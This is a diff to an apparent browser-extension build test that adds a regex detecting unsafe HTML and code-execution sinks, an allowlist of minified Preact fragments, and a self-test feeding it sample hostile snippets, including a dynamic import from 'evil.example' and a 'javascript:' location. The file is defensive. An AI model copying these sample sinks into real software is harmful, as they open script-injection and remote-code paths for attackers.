@@ -5,6 +5,38 @@ const KB = 1_000;
 const CONTENT_SCRIPT = 'content-scripts/gmail.js';
 const CONTENT_GATE = 32 * KB;
 
+/** Every way in which a browser makes markup, a script or an address of a text. */
+const DANGERS =
+  /innerHTML|outerHTML|insertAdjacentHTML|dangerouslySetInnerHTML|__html|DOMParser|srcdoc|setHTMLUnsafe|parseHTMLUnsafe|createContextualFragment|XSLTProcessor|document\.write|\beval\b|(?<![\w$.`'"])Function\b(?![`'"])|importScripts|(javascript|vbscript):|set(Timeout|Interval)\(["'`]|import\(["'`](https?:|\/\/)/g;
+
+/**
+ * What stands of that in the shipped code: the one place in Preact that draws `dangerouslySetInnerHTML`, which no component
+ * of ours has (the linter refuses it), and where it tells that property from attributes. Letters that a minifier chose are `_`.
+ */
+const PREACT = [
+  '(_)_||_&&(_.__html==_._',
+  '_.__html==_.__html||_._',
+  '_.__html||_.__html==_._',
+  '_.__html==_.innerHTML)||(_',
+  'erHTML)||(_.innerHTML=_.__',
+  'innerHTML=_.__html),_._',
+  'se if(_&&(_.innerHTML=``),',
+  ')_=_[_],_==`dangerouslySetInnerHTML`?_=_',
+  'en`?_=_:_==`dangerouslySetInnerHTML`?_=_',
+];
+
+/** Each danger in a code with what stands beside it, names that a minifier gives taken out. */
+function dangersIn(code: string): string[] {
+  return [...code.matchAll(DANGERS)].map((match) =>
+    code.slice(Math.max(0, match.index - 12), match.index + match[0].length + 5).replace(/\b[a-zA-Z]\b/g, '_'),
+  );
+}
+
+/** A file of a build without the mark of its content. */
+function named(file: string): string {
+  return file.startsWith('chunks/') ? 'chunk' : file;
+}
+
 describe.each(['chromium', 'firefox'] as const)('the bundle for %s', (build) => {
   it('has a content script within its size', () => {
     expect(gzipBytes(build, CONTENT_SCRIPT)).toBeLessThanOrEqual(CONTENT_GATE);
@@ -19,13 +51,37 @@ describe.each(['chromium', 'firefox'] as const)('the bundle for %s', (build) => 
     expect(builtText(build, 'background.js')).toContain('api.hubapi.com');
   });
 
-  it('runs no code from strings or from elsewhere', () => {
-    for (const file of builtFiles(build).filter((name) => name.endsWith('.js'))) {
-      const code = builtText(build, file);
-      expect(
-        code.match(/\beval\(|javascript:|importScripts\(|insertAdjacentHTML|\.srcdoc|document\.write/g) ?? [],
-        file,
-      ).toEqual([]);
+  it('makes no markup and runs no code from text, but for one path of a library that nothing of ours takes', () => {
+    const found = builtFiles(build)
+      .filter((name) => /\.(js|html)$/.test(name))
+      .flatMap((name) => dangersIn(builtText(build, name)).map((danger) => `${named(name)}: ${danger}`));
+    const allowed = ['chunk', 'content-scripts/gmail.js'].flatMap((file) => PREACT.map((line) => `${file}: ${line}`));
+    expect([...new Set(found)].sort()).toEqual(allowed.sort());
+    // Once a file that draws, and the worker draws nothing.
+    expect(found).toHaveLength(allowed.length);
+  });
+
+  it('has a search for that which does find it', () => {
+    for (const danger of [
+      'a.innerHTML=b',
+      'a.outerHTML=b',
+      'a.insertAdjacentHTML("beforeend",b)',
+      'new DOMParser',
+      'a.srcdoc=b',
+      'a.setHTMLUnsafe(b)',
+      'r.createContextualFragment(b)',
+      'document.write(b)',
+      'eval(a)',
+      '(0,eval)(a)',
+      'new Function(a)',
+      'Function("return this")()',
+      'setTimeout("a()",1)',
+      'importScripts(a)',
+      'location="javascript:a()"',
+      'import("https://evil.example/a.js")',
+      '{dangerouslySetInnerHTML:{__html:a}}',
+    ]) {
+      expect(dangersIn(`x;${danger};y`), danger).not.toEqual([]);
     }
   });
 
